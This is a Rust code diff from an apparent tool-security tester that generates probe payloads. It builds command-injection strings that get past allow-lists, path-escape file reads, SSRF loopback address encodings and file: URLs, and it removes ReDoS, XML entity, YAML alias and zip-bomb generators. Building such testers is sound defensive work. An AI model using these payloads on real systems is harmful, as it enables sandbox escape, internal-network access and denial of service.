@@ -3,47 +3,24 @@
 
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
 use std::path::{Path, PathBuf};
+use std::sync::LazyLock;
+
+use regex::Regex;
 
 use super::aim::{Aim, Escape};
-use super::archive::{self, SIZES, Size};
 use super::base::Known;
 use super::ground::{Ground, PLAIN, To, Way};
 use super::job::Job;
 use super::place::{Place, Purpose};
-use crate::plan::guard::words;
 use wallfacer_process::sink::REDIRECT;
 
 /// A longer value is left out of the payload: it only makes it harder to read.
 const MAX_VALUE: usize = 80;
 /// Where an option of ours would make a file.
 const MADE: &str = "/tmp";
-/// What a call asks for first; each further one asks twice as much.
-const DOUBLINGS: u32 = 3;
 /// Numbers whose product nobody writes down by chance.
 const FACTOR: u64 = 70_001;
 const STEP: u64 = 1_009;
-/// Repetitions at which an expression that backtracks exponentially is felt, and at which one that does so over a long
-/// text is.
-const FEW: usize = 8;
-const MANY: usize = 2_000;
-/// Levels of a text that doubles with each of them: three doublings of this are some hundred megabytes.
-const LEVELS: usize = 3;
-
-/// Words of arguments that may be packed.
-const PACKED: [&str; 11] = [
-    "archive",
-    "base64",
-    "compressed",
-    "gunzip",
-    "gz",
-    "gzip",
-    "gzipped",
-    "inflate",
-    "packed",
-    "zip",
-    "zipped",
-];
-
 /// What is put into one place.
 #[derive(Debug, Clone)]
 pub struct Payload {
@@ -55,15 +32,17 @@ pub struct Payload {
     pub rank: u8,
     /// Whether the first value asks openly for what the second gets at by another way.
     pub openly_first: bool,
+    /// What the other texts of the call are to be, where it matters.
+    pub beside: Option<String>,
 }
 
 impl Payload {
-    fn one(way: &str, aim: Aim, value: String, rank: u8) -> Payload {
+    pub(super) fn one(way: &str, aim: Aim, value: String, rank: u8) -> Payload {
         Payload::of(way, aim, vec![value], rank)
     }
 
-    fn of(way: &str, aim: Aim, values: Vec<String>, rank: u8) -> Payload {
-        Payload { way: way.to_owned(), aim, values, rank, openly_first: false }
+    pub(super) fn of(way: &str, aim: Aim, values: Vec<String>, rank: u8) -> Payload {
+        Payload { way: way.to_owned(), aim, values, rank, openly_first: false, beside: None }
     }
 
     /// Behind the same, asked for openly: where that has the effect too, there is nothing to get around.
@@ -97,12 +76,13 @@ pub fn commands(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
 }
 
 /// What gets around a list of commands that a tool takes or refuses: each behind the plain name of the program, which
-/// must not run.
-pub fn refused_commands(place: &Place, ground: &Ground) -> Vec<Payload> {
+/// must not run. `said` is all that the tool says of itself, which may name what it takes.
+pub fn refused_commands(place: &Place, ground: &Ground, said: &str) -> Vec<Payload> {
     if place.purpose != Purpose::Program {
         return Vec::new();
     }
-    let (allowed, program) = (short(&place.value), &ground.program);
+    let named = ALLOWED.captures(said).and_then(|found| found.get(1)).map(|name| name.as_str());
+    let (allowed, program) = (named.unwrap_or(short(&place.value)), &ground.program);
     let first = allowed.split_whitespace().next().unwrap_or("ls");
     let ours = [
         ("a program by its whole path", format!("/usr/bin/{program}")),
@@ -113,6 +93,7 @@ pub fn refused_commands(place: &Place, ground: &Ground) -> Vec<Payload> {
         ("a program within an allowed command", format!("{first} $({program})")),
         ("a program in backticks within an allowed command", format!("{first} `{program}`")),
         ("a program on a line of its own", format!("{allowed}\n{program}")),
+        ("a program behind an argument of an allowed one", format!("{first} .;{program}")),
         (
             "an option that runs a program for what is found",
             format!("find . -maxdepth 0 -exec {program} {{}} +"),
@@ -125,6 +106,40 @@ pub fn refused_commands(place: &Place, ground: &Ground) -> Vec<Payload> {
         Payload::behind(program.clone(), way, Aim::Execute { program: program.clone() }, text, 0)
     });
     ours.chain(BLOCKED.iter().flat_map(|program| blocked(program, allowed))).collect()
+}
+
+/// Commands that read a file outside of a declared directory, each behind the one that names it openly, which must not.
+pub fn refused_paths(place: &Place, ground: &Ground) -> Vec<Payload> {
+    if place.purpose != Purpose::Program {
+        return Vec::new();
+    }
+    let payload = |way: &Way| match &way.aim {
+        Aim::Reach { escape: Escape::Outside | Escape::Symlink, declared: true, outside, .. } => {
+            let (openly, read) = (format!("cat {}", outside.display()), format!("cat {}", way.value));
+            let is_fit = way.to == To::File(PLAIN.to_owned()) && !way.value.contains('\0') && openly != read;
+            is_fit.then(|| Payload::behind(openly, way.about, way.aim.clone(), read, 1))
+        }
+        _ => None,
+    };
+    ground.ways.iter().filter_map(payload).collect()
+}
+
+/// "Allowed commands: ls, cat", in small letters.
+static ALLOWED: LazyLock<Regex> = LazyLock::new(|| {
+    let text = r#"\b(?:allowed|permitted|available) (?:commands|programs)(?: are| include)?:?\s*[\[("'`]*([a-z][\w-]*)"#;
+    Regex::new(text).expect("a constant")
+});
+
+/// The words of a command as a shell would tell them apart; of its quotes it knows the single ones, which ours have.
+pub fn shell_words(command: &str) -> Vec<String> {
+    let mut words: Vec<String> = Vec::new();
+    for (number, part) in command.split('\'').enumerate() {
+        match number % 2 {
+            0 => words.extend(part.split_whitespace().map(str::to_owned)),
+            _ => words.push(part.to_owned()),
+        }
+    }
+    words
 }
 
 /// Programs that lists of what is forbidden have, asked for nothing but their version.
@@ -177,13 +192,22 @@ pub fn options(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
 /// does one of a server where nobody does.
 fn reaches_programs(place: &Place, known: &Known) -> u8 {
     let runs_none = !known.runs_programs && (!known.good.is_empty() || known.others_run_none);
-    u8::from(place.purpose == Purpose::Prose) + u8::from(runs_none)
+    u8::from(matches!(place.purpose, Purpose::Prose | Purpose::Number)) + u8::from(runs_none)
+}
+
+/// The first of each list, then the second of each.
+pub fn in_turn(lists: Vec<Vec<Payload>>) -> Vec<Payload> {
+    let mut all: Vec<(usize, Payload)> =
+        lists.into_iter().flat_map(|list| list.into_iter().enumerate()).collect();
+    all.sort_by_key(|(place, _)| *place);
+    all.into_iter().map(|(_, payload)| payload).collect()
 }
 
 /// Every way of one sort out of every scope, those first that lead to what the place is for. `about` is what the schema
 /// says of it.
 pub fn escapes(place: &Place, ground: &Ground, wanted: Escape, about: &str, job: Job) -> Vec<Payload> {
     let rank = match place.purpose {
+        Purpose::Number => return Vec::new(),
         Purpose::Directory | Purpose::File => 0,
         // What something is called by often becomes the name of a file.
         Purpose::Unknown if job.writes => 0,
@@ -193,16 +217,19 @@ pub fn escapes(place: &Place, ground: &Ground, wanted: Escape, about: &str, job:
         _ => 3,
     };
     let is_wanted = |aim: &Aim| matches!(aim, Aim::Reach { escape, .. } if *escape == wanted);
-    let mut ways: Vec<&Way> = ground.ways.iter().filter(|way| is_wanted(&way.aim)).collect();
+    let is_fit = |way: &&Way| is_wanted(&way.aim) && (way.to != To::Archive || job.unpacks);
+    let mut ways: Vec<&Way> = ground.ways.iter().filter(is_fit).collect();
     let mentioned = ways.iter().any(|way| mentions(about, &way.to));
     ways.sort_by_key(|way| {
         let unfit = match (place.purpose, &way.to) {
             (Purpose::Directory, To::Directory) => 0,
             (_, to) if mentions(about, to) => 0,
             (_, To::New(_)) if job.writes => u8::from(mentioned),
-            (_, To::Directory) if job.lists => 0,
+            (_, To::Archive) => 0,
+            (_, To::Directory) if job.lists || wanted == Escape::Relative => 0,
             (Purpose::Pattern, To::Pattern) => 0,
-            (_, To::File(ending)) if ending == PLAIN => u8::from(mentioned),
+            (Purpose::Directory, To::File(_)) => 2,
+            (_, To::File(ending)) if ending == PLAIN => u8::from(mentioned || job.writes),
             (_, To::New(ending)) if ending == PLAIN => 1,
             (_, To::Directory) => 2,
             (_, To::File(_) | To::New(_) | To::Pattern) => 3,
@@ -228,6 +255,7 @@ fn is_short(value: &str) -> bool {
 /// Addresses that nobody outside could reach, written in all the ways that are read.
 pub fn requests(place: &Place, job: Job, ground: &Ground) -> Vec<Payload> {
     let rank = match place.purpose {
+        Purpose::Number => return Vec::new(),
         Purpose::Address => 0,
         Purpose::Unknown => 2 - u8::from(job.fetches),
         _ => 3 - u8::from(job.fetches),
@@ -258,6 +286,16 @@ pub fn requests(place: &Place, job: Job, ground: &Ground) -> Vec<Payload> {
         ("a mapped loopback address", format!("http://[::ffff:127.0.0.1]:{port}/"), here.clone()),
         ("a loopback address as one number", format!("http://2130706433:{port}/"), here.clone()),
         ("a short loopback address", format!("http://127.1:{port}/"), here.clone()),
+        // The names of the sandbox lead to the address that is a part of them.
+        ("a name that leads to a loopback address", format!("http://127.0.0.1.nip.io:{port}/"), here.clone()),
+        ("a loopback address in hexadecimal", format!("http://0x7f000001:{port}/"), here.clone()),
+        ("a loopback address in octal", format!("http://0177.0.0.1:{port}/"), here.clone()),
+        (
+            "an inner address behind a name and a password",
+            format!("http://www.example.com@127.0.0.1:{port}/"),
+            here.clone(),
+        ),
+        ("an inner address in capitals", format!("HTTP://LOCALHOST:{port}/"), here.clone()),
         ("the address of any interface", format!("http://0.0.0.0:{port}/"), here.clone()),
         // The network of the sandbox sends whoever asks for this on to the address in it.
         (
@@ -273,19 +311,40 @@ pub fn requests(place: &Place, job: Job, ground: &Ground) -> Vec<Payload> {
 }
 
 /// An address whose scheme nobody knows: whatever opens it was chosen by the caller.
-pub fn schemes(place: &Place, ground: &Ground) -> Vec<Payload> {
+pub fn schemes(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
     if place.purpose != Purpose::Address {
         return Vec::new();
     }
     let address = format!("{}://open", ground.program);
     let aim = Aim::Hand { address: address.clone() };
-    vec![Payload::one("an address with a scheme of its own", aim, address, 1)]
+    let rank = u8::from(!known.runs_programs);
+    vec![Payload::one("an address with a scheme of its own", aim, address, rank)]
+}
+
+/// The address of a file of this machine, for a tool that fetches pages and does not say that it takes such addresses.
+/// `said` is all that the tool says of itself.
+pub fn file_addresses(place: &Place, job: Job, ground: &Ground, said: &str) -> Vec<Payload> {
+    let is_said = ["file:", "local file", "file path", "filesystem"].iter().any(|words| said.contains(words));
+    if place.purpose != Purpose::Address || !job.fetches || is_said {
+        return Vec::new();
+    }
+    let ways = ground.ways.iter().filter(|way| way.value.starts_with("file:"));
+    let payload = |way: &Way| {
+        let Aim::Reach { scope, outside, name, token, .. } = way.aim.clone() else { return None };
+        let aim = Aim::Reach { escape: Escape::Address, scope, declared: true, outside, name, token };
+        Some(Payload::one(way.about, aim, way.value.clone(), 0))
+    };
+    ways.filter_map(payload).take(1).collect()
 }
 
 /// Statements that change what a tool that only reads must leave alone. Behind those that make a table comes the question
 /// for what is in it: a product that no call has written down, so that nobody can repeat it without having made the table.
 pub fn statements(tool: &str, place: &Place, ground: &Ground, known: &[PathBuf]) -> Vec<Payload> {
-    let rank = if place.purpose == Purpose::Statement { 0 } else { 2 };
+    let rank = match place.purpose {
+        Purpose::Number => return Vec::new(),
+        Purpose::Statement => 0,
+        _ => 2,
+    };
     let value = short(&place.value);
     let written = [
         ("a statement that writes", "", ""),
@@ -312,57 +371,6 @@ pub fn statements(tool: &str, place: &Place, ground: &Ground, known: &[PathBuf])
     let aim = Aim::Change { known: known.to_vec(), shows: None };
     payloads.push(Payload::one("a setting that is kept", aim, "PRAGMA user_version = 7717".to_owned(), rank));
     payloads
-}
-
-/// Texts that each ask twice as much as the one before.
-pub fn growths(place: &Place) -> Vec<Payload> {
-    let rank = match place.purpose {
-        Purpose::Pattern => 1,
-        Purpose::Prose | Purpose::Unknown | Purpose::Statement => 2,
-        _ => 3,
-    };
-    let doubled = |first: usize| (0..=DOUBLINGS).map(move |step| first << step);
-    let all = |first, write: fn(usize) -> String| doubled(first).map(write).collect::<Vec<String>>();
-    let written = [
-        ("an expression that backtracks", all(1, |times| format!("(a+){{{times}}}b"))),
-        ("letters that nearly match", all(FEW, |times| format!("{}!", "a".repeat(times)))),
-        ("many letters that nearly match", all(MANY, |times| format!("{}!", "a".repeat(times)))),
-        ("much white space", all(MANY, |times| format!("x{}x", " ".repeat(times)))),
-        ("many brackets", all(MANY, |times| "<".repeat(times))),
-        ("entities of entities", all(LEVELS, entities)),
-        ("aliases of aliases", all(LEVELS, aliases)),
-    ];
-    let payload = |(way, values): (&str, Vec<String>)| Payload::of(way, Aim::Grow, values, rank);
-    written.into_iter().map(payload).collect()
-}
-
-/// Archives that unpack to much more than is sent. They are not small, so only what speaks of such things is sent any.
-pub fn archives(place: &Place, about: &str) -> Vec<Payload> {
-    let said = words(&place.name).into_iter().chain(words(about)).collect::<Vec<String>>();
-    let speaks = said.iter().any(|word| PACKED.contains(&word.as_str()));
-    if !speaks {
-        return Vec::new();
-    }
-    let payload =
-        |way: &str, write: fn(Size) -> String| Payload::of(way, Aim::Inflate, SIZES.map(write).to_vec(), 1);
-    vec![
-        payload("a packed file that unpacks to much more", archive::gzip),
-        payload("an archive that unpacks to much more", archive::zip),
-    ]
-}
-
-/// A document in which each entity stands for twice the one before.
-fn entities(levels: usize) -> String {
-    let next = |level: usize| format!("<!ENTITY e{level} \"&e{0};&e{0};\">", level - 1);
-    let rest: String = (1..=levels).map(next).collect();
-    format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e0 \"aaaaaaaaaa\">{rest}]><a>&e{levels};</a>")
-}
-
-/// The same as lists that name one another.
-fn aliases(levels: usize) -> String {
-    let next = |level: usize| format!("e{level}: &e{level} [*e{0}, *e{0}]\n", level - 1);
-    let rest: String = (1..=levels).map(next).collect();
-    format!("e0: &e0 [aaaaaaaaaa]\n{rest}")
 }
 
 fn short(value: &str) -> &str {
